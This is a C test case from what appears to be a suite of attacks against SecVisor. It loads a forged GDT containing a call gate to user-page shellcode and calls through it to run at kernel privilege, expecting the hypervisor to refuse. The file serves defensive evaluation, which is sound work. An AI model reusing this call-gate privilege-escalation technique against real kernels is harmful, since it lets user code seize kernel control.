// Row 8. The GDT moved to a copy with a call gate to code in a user page (LGDT); the user program calls through it.
// Source: call gates; descriptor tables of the attacker's.
// Ends: natively succeeded; beneath SecVisor refused, instruction: a general-protection fault of the user program.
#include "common/attack.h"
#include <string.h>

// Where the kernel puts the LDT's descriptor; this process has none.
#define SELECTOR (10 * 8)

ATTACK("gdt-moved")
{
	u64 gs = operate(VULNERABLE_GS, 0, 0, 0), stack = operate(VULNERABLE_VMALLOC, 16 * PAGE, 0, 0), copy = kernel_page();
	struct tables found = tables();
	u8 *page = user_page(), entry[16], table[256];
	u64 top = stack + 15 * PAGE;
	long result;

	memcpy(page, "\xb8\x37\x13\0\0\x48\xcb", 7); // mov eax, 0x1337; lretq
	make_executable((u64)page);
	kread(found.gdt, table, sizeof(table));
	call_gate(entry, (u64)page);
	memcpy(table + SELECTOR, entry, sizeof(entry));
	kwrite(copy, table, sizeof(table));
	// What refuses the call does so on the stack the TSS names: a roomy one.
	poke_bytes(found.tss + 4, &top, 8);
	expect_fault();
	unprotect();
	undo_gdt(found.gdt, found.gdt_limit);
	about_to("call through a gate in a GDT of our own");
	operate(VULNERABLE_LGDT, copy, found.gdt_limit, 0);
	result = call_far(SELECTOR | 3, gs);
	operate(VULNERABLE_LGDT, found.gdt, found.gdt_limit, 0);
	if (result == MARK)
		succeeded("a call gate in a GDT of our own led to a user page at CPL 0");
	failed("the call returned %ld", result);
}
